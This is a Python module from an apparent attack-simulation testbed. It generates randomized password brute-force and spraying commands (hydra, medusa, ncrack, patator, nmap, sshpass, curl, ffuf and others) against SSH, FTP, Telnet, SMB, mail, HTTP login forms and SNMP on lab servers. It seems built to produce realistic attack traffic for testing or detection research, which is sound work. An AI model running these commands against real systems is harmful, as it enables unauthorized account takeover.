"""Guessing of passwords: fast with dictionaries, and slowly with one password for many users."""

from testbed.attacks.material import (ANYWHERE, INSIDE, SSH, accounts, maybe, pairs, passwords, pause,
                                      user_agent, words)
from testbed.catalogue import Assault, attack

BRUTE = "T1110.001"
SPRAY = "T1110.003"


def hydra(c, service: str, target: str, options: str = "", most: int = 18) -> str:
    return words("hydra -I -q", f"-t {c.choose(1, 2, 4, 4, 6, 8)}", maybe(c, 0.3, f"-W {c.between(1, 2)}"),
                 maybe(c, 0.4, "-u"), maybe(c, 0.2, "-e nsr"), options, f"-L {accounts(c, c.between(2, 6))}",
                 f"-P {passwords(c, c.between(8, most), c.chance(0.3))}", f"{service}://{target}")


def medusa(c, module: str, target: str, options: str = "") -> str:
    return words(f"medusa -h {target} -M {module} -t {c.between(1, 4)}", maybe(c, 0.3, "-e ns"), options,
                 f"-U {accounts(c, c.between(2, 4))} -P {passwords(c, c.between(6, 12), c.chance(0.3))}")


def ncrack(c, service: str, target: str, options: str = "") -> str:
    return words(f"ncrack -T{c.between(3, 5)} --connection-limit {c.between(1, 6)}", options,
                 f"-U {accounts(c, c.between(2, 4))} -P {passwords(c, c.between(6, 14))} {service}://{target}")


def patator(c, module: str, options: str, ignore: str) -> str:
    return words(f"patator {module}", options, "user=FILE0 password=FILE1",
                 f"0={accounts(c, c.between(2, 5))} 1={passwords(c, c.between(6, 14))} -t {c.between(1, 6)}",
                 maybe(c, 0.3, f"--rate-limit={c.between(0.1, 0.5)}"), f"-x ignore:{ignore}")


def each_guess(c, body: str, users: int = 3, tries: int = 10, wait: str = "true") -> str:
    """Runs `body` for each of the `$user` and `$password`; users or passwords go round first."""
    outer, inner = (f"user in $(cat {accounts(c, c.between(2, users))})",
                    f"password in $(cat {passwords(c, c.between(tries // 2, tries), c.chance(0.3))})")
    if c.chance(0.5):
        outer, inner = inner, outer
    return f"for {outer}; do for {inner}; do {body}; {wait}; done; done"


def server(c, offer: str) -> str:
    return c.server(offer).address


@attack("brute_ssh", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("ssh",), packages=("hydra",), seconds=40)
def hydra_ssh(c):
    return Assault(hydra(c, "ssh", server(c, "ssh")))


@attack("brute_ssh", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("ssh",), packages=("medusa",), seconds=40)
def medusa_ssh(c):
    return Assault(medusa(c, "ssh", server(c, "ssh")))


@attack("brute_ssh", technique=BRUTE, tool="ncrack", origins=ANYWHERE, needs=("ssh",), packages=("ncrack",), seconds=40)
def ncrack_ssh(c):
    return Assault(ncrack(c, "ssh", server(c, "ssh")))


@attack("brute_ssh", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("ssh",), packages=("patator",), seconds=40)
def patator_ssh(c):
    return Assault(patator(c, "ssh_login", f"host={server(c, 'ssh')}", "mesg='Authentication failed.'"))


@attack("brute_ssh", technique=BRUTE, tool="nmap ssh-brute", origins=ANYWHERE, needs=("ssh",), packages=("nmap",), seconds=40)
def nmap_ssh(c):
    return Assault(words("nmap -n -Pn -sT -p22 --script ssh-brute --script-args",
                         f"userdb={accounts(c, 3)},passdb={passwords(c, c.between(8, 16))},brute.threads={c.between(1, 4)}",
                         server(c, "ssh")))


def ssh_guess(target: str) -> str:
    return (f'timeout 12 sshpass -p "$password" ssh {SSH} -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no'
            f" $user@{target} true")


@attack("brute_ssh", technique=BRUTE, tool="sshpass", origins=ANYWHERE, needs=("ssh",),
        packages=("sshpass", "openssh-client"), seconds=40)
def sshpass_loop(c):
    return Assault(each_guess(c, ssh_guess(server(c, "ssh")), 4, 12, pause(c.between(0.1, 0.8), 0.3)))


@attack("brute_ssh_slow", technique=SPRAY, tool="sshpass", origins=ANYWHERE, needs=("ssh",),
        packages=("sshpass", "openssh-client"), seconds=200)
def ssh_spray(c):
    targets = [host.address for host in c.network.servers("ssh") if host is not c.host] or [server(c, "ssh")]
    body = ssh_guess("$target")
    return Assault(f"RANDOM={c.between(1, 32767)}; for password in $(cat {passwords(c, 30)}); do for user in"
                   f" $(cat {accounts(c, c.between(3, 9))}); do for target in"
                   f" {' '.join(c.random.sample(targets, c.between(1, min(2, len(targets)))))}; do {body};"
                   f" {pause(c.between(2.0, 8.0), c.choose(0, 0.2, 0.5))}; done; done; done")


@attack("brute_ssh_slow", technique=SPRAY, tool="dbclient", origins=ANYWHERE, needs=("ssh",),
        packages=("dropbear-bin",), seconds=180)
def dropbear_spray(c):
    return Assault(f"RANDOM={c.between(1, 32767)}; for password in $(cat {passwords(c, 20)}); do for user in"
                   f' $(cat {accounts(c, c.between(3, 6))}); do DROPBEAR_PASSWORD="$password" timeout 12 dbclient -y -y'
                   f" $user@{server(c, 'ssh')} true; {pause(c.between(2.5, 8.0), c.choose(0.1, 0.4))}; done; done")


@attack("brute_ssh_slow", technique=SPRAY, tool="hydra slow", origins=ANYWHERE, needs=("ssh",), packages=("hydra",),
        seconds=180)
def hydra_spray(c):
    return Assault(f"hydra -I -q -t 1 -u -W {c.between(2, 6)} -c {c.between(2, 6)} -L {accounts(c, c.between(4, 9))}"
                   f" -P {passwords(c, 12)} ssh://{server(c, 'ssh')}")


@attack("brute_ftp", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("ftp",), packages=("hydra",), seconds=35)
def hydra_ftp(c):
    return Assault(hydra(c, "ftp", server(c, "ftp")))


@attack("brute_ftp", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("ftp",), packages=("medusa",), seconds=35)
def medusa_ftp(c):
    return Assault(medusa(c, "ftp", server(c, "ftp")))


@attack("brute_ftp", technique=BRUTE, tool="ncrack", origins=ANYWHERE, needs=("ftp",), packages=("ncrack",), seconds=35)
def ncrack_ftp(c):
    return Assault(ncrack(c, "ftp", server(c, "ftp")))


@attack("brute_ftp", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("ftp",), packages=("patator",), seconds=35)
def patator_ftp(c):
    return Assault(patator(c, "ftp_login", f"host={server(c, 'ftp')}", "code=530"))


@attack("brute_ftp", technique=BRUTE, tool="lftp", origins=ANYWHERE, needs=("ftp",), packages=("lftp",), seconds=35)
def lftp_loop(c):
    body = (f'timeout 8 lftp -u "$user,$password" {server(c, "ftp")} -e "set net:max-retries 1; set net:timeout 5;'
            ' set ftp:ssl-allow no; ls; bye"')
    return Assault(each_guess(c, body, wait=pause(c.between(0.0, 0.8))))


@attack("brute_ftp", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("ftp",), packages=("curl",), seconds=35)
def curl_ftp(c):
    return Assault(each_guess(c, f'curl -s -m 8 -u "$user:$password" ftp://{server(c, "ftp")}/', 4, 14,
                              pause(c.between(0.0, 0.6))))


@attack("brute_telnet", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("telnet",), packages=("hydra",), seconds=40)
def hydra_telnet(c):
    return Assault(f"hydra -I -q -t {c.between(2, 8)} -C {pairs(c, c.between(10, 26))} telnet://{server(c, 'telnet')}")


@attack("brute_telnet", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("telnet",), packages=("medusa",),
        seconds=40)
def medusa_telnet(c):
    return Assault(medusa(c, "telnet", server(c, "telnet")))


@attack("brute_telnet", technique=BRUTE, tool="ncrack", origins=ANYWHERE, needs=("telnet",), packages=("ncrack",),
        seconds=40)
def ncrack_telnet(c):
    return Assault(ncrack(c, "telnet", server(c, "telnet")))


@attack("brute_telnet", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("telnet",), packages=("patator",),
        seconds=40)
def patator_telnet(c):
    return Assault(words(f"patator telnet_login host={server(c, 'telnet')}", r"inputs='FILE0\nFILE1'",
                         f"0={accounts(c, c.between(2, 4))} 1={passwords(c, c.between(4, 9))}",
                         f"prompt_re='login:|Password:' persistent=0 -t {c.between(1, 4)}",
                         "-x ignore:fgrep='Login incorrect'"))


@attack("brute_smb", technique=SPRAY, tool="patator", origins=INSIDE, needs=("files",), packages=("patator",), seconds=30)
def patator_smb(c):
    return Assault(patator(c, "smb_login", f"host={server(c, 'smb')}", "fgrep=STATUS_LOGON_FAILURE"))


@attack("brute_smb", technique=SPRAY, tool="smbclient", origins=ANYWHERE, needs=("files",), packages=("smbclient",), seconds=30)
def smbclient_loop(c):
    target = server(c, "files")
    body = c.choose(f'smbclient -U "$user%$password" //{target}/docs -c ls', f'smbclient -U "$user%$password" -L {target}')
    return Assault(each_guess(c, f"timeout 8 {body}", 6, 10, pause(c.between(0.0, 0.7))))


@attack("brute_smb", technique=SPRAY, tool="rpcclient", origins=INSIDE, needs=("files",), packages=("smbclient",), seconds=30)
def rpcclient_loop(c):
    return Assault(each_guess(c, f'timeout 8 rpcclient -U "$user%$password" {server(c, "files")} -c getusername', 6, 10,
                              pause(c.between(0.0, 0.7))))


@attack("brute_smb", technique=SPRAY, tool="medusa", origins=INSIDE, needs=("files",), packages=("medusa",), seconds=30)
def medusa_smb(c):
    return Assault(medusa(c, "smbnt", server(c, "files")))


@attack("brute_mail", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("mailboxes",), packages=("hydra",), seconds=35)
def hydra_mail(c):
    kind, port = c.choose(("imap", 143), ("pop3", 110), ("mailboxes", 993), ("pop3", 995))
    return Assault(hydra(c, kind, f"{server(c, 'imap')}:{port}", "-S" if port > 900 else ""), variant=f"{kind} {port}")


@attack("brute_mail", technique=BRUTE, tool="hydra smtp", origins=ANYWHERE, needs=("smtp",), packages=("hydra",), seconds=35)
def hydra_smtp(c):
    return Assault(hydra(c, "smtp", f"{server(c, 'smtp')}/LOGIN", most=12))


@attack("brute_mail", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("mailboxes",), packages=("medusa",), seconds=35)
def medusa_mail(c):
    return Assault(medusa(c, c.choose("imap", "pop3"), server(c, "mailboxes")))


@attack("brute_mail", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("mailboxes",), packages=("patator",), seconds=35)
def patator_mail(c):
    module, ignore = c.choose(("imap_login", "fgrep='Authentication failed'"), ("pop_login", "fgrep='Authentication failed'"))
    return Assault(patator(c, module, f"host={server(c, 'imap')}", ignore), variant=module)


@attack("brute_mail", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("mailboxes",), packages=("curl",), seconds=35)
def curl_mail(c):
    kind = c.choose("imap", "imaps", "pop3", "pop3s")
    return Assault(each_guess(c, f'curl -sk -m 8 -u "$user:$password" {kind}://{server(c, "mailboxes")}/', 4, 12,
                              pause(c.between(0.0, 0.6))), variant=kind)


def form(c) -> str:
    return f"{c.conventions.shop}/login"


@attack("brute_http", technique=BRUTE, tool="hydra form", origins=ANYWHERE, needs=("web", "shop"), packages=("hydra",),
        seconds=30)
def hydra_form(c):
    scheme, host, port = c.choose(("http", "web", 80), ("https", "web", 443), ("http", "shop", 8080))
    agent = maybe(c, 0.5, f":H=User-Agent\\: {user_agent(c).split(' (')[0]}")
    fields = f"{form(c)}:user=^USER^&pass=^PASS^{agent}:F=Login failed"
    return Assault(words("hydra -I -q", f"-t {c.between(1, 8)} -s {port}", f"-L {accounts(c, c.between(2, 5))}",
                         f"-P {passwords(c, c.between(12, 24), c.chance(0.3))} {server(c, host)}",
                         f"{scheme}-post-form '{fields}'"), variant=f"{scheme} {port}")


@attack("brute_http", technique=BRUTE, tool="hydra basic", origins=ANYWHERE, needs=("web",), packages=("hydra",), seconds=30)
def hydra_basic(c):
    return Assault(hydra(c, c.choose("http-get", "https-get"), f"{server(c, 'web')}/private/"))


@attack("brute_http", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("web",), packages=("medusa",), seconds=30)
def medusa_basic(c):
    return Assault(medusa(c, "http", server(c, "web"), "-m DIR:/private/"))


@attack("brute_http", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("web", "shop"), packages=("patator",),
        seconds=30)
def patator_form(c):
    target = server(c, "web")
    return Assault(words(f"patator http_fuzz resolve=site.test:{target} url=http://{target}{form(c)} method=POST",
                         f"body='user={c.user().name}&pass=FILE0' header='User-Agent: {user_agent(c)}'",
                         f"0={passwords(c, c.between(25, 50))} -t {c.between(1, 6)} -x ignore:fgrep=failed"))


@attack("brute_http", technique=BRUTE, tool="ffuf", origins=ANYWHERE, needs=("web", "shop"), packages=("ffuf",), seconds=30)
def ffuf_form(c):
    return Assault(words("ffuf -s -k -X POST", f"-t {c.between(1, 10)}", maybe(c, 0.5, f"-p {c.between(0.1, 0.4)}"),
                         f"-w {accounts(c, c.between(2, 4))}:NAME -w {passwords(c, c.between(15, 30))}:WORD",
                         "-H 'Content-Type: application/x-www-form-urlencoded'", f"-H 'User-Agent: {user_agent(c)}'",
                         f"-d 'user=NAME&pass=WORD' -u {c.choose('http', 'https')}://{server(c, 'web')}{form(c)}",
                         "-fr 'Login failed'"))


@attack("brute_http", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("web", "shop"), packages=("curl",), seconds=30)
def curl_form(c):
    url = f"{c.choose('http', 'https')}://{server(c, 'web')}"
    body = c.choose(f'curl -sk -m 8 -A "{user_agent(c)}" -d "user=$user&pass=$password" {url}{form(c)} -o /dev/null',
                    f'curl -sk -m 8 -A "{user_agent(c)}" -u "$user:$password" {url}/private/ -o /dev/null')
    return Assault(each_guess(c, body, 4, 24, pause(c.between(0.05, 0.8))))


@attack("snmp_brute", technique=BRUTE, tool="onesixtyone", origins=ANYWHERE, needs=("snmp",), packages=("onesixtyone",),
        seconds=30)
def onesixtyone(c):
    return Assault(f"onesixtyone -w {c.between(10, 120)} -c {passwords(c, c.between(40, 54))} {server(c, 'snmp')}")


@attack("snmp_brute", technique=BRUTE, tool="nmap snmp-brute", origins=ANYWHERE, needs=("snmp",), packages=("nmap",),
        seconds=30)
def nmap_snmp(c):
    return Assault(words("nmap -n -Pn --send-ip -sU -p161 --script snmp-brute --script-args",
                         f"snmp-brute.communitiesdb={passwords(c, c.between(20, 50))}", server(c, "snmp")))


@attack("snmp_brute", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("snmp",), packages=("hydra",), seconds=30)
def hydra_snmp(c):
    return Assault(f"hydra -I -q -t {c.between(1, 8)} -P {passwords(c, c.between(20, 50))} snmp://{server(c, 'snmp')}")


@attack("snmp_brute", technique=BRUTE, tool="snmpget", origins=ANYWHERE, needs=("snmp",), packages=("snmp",), seconds=40)
def snmpget_loop(c):
    oid = c.choose("1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.5.0", "1.3.6.1.2.1.1.3.0")
    return Assault(f"for community in $(cat {passwords(c, c.between(20, 50))}); do snmpget -v{c.choose('1', '2c')} -r 0"
                   f" -t {c.choose('0.2', '0.5', '1')} -c $community {server(c, 'snmp')} {oid};"
                   f" {pause(c.between(0.0, 0.4))}; done")


@attack("snmp_brute", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("snmp",), packages=("patator",), seconds=30)
def patator_snmp(c):
    return Assault(f"patator snmp_login host={server(c, 'snmp')} version={c.choose('1', '2')} community=FILE0"
                   f" 0={passwords(c, c.between(12, 40))} -t {c.between(1, 4)} -x ignore:mesg='No SNMP response received"
                   " before timeout'")
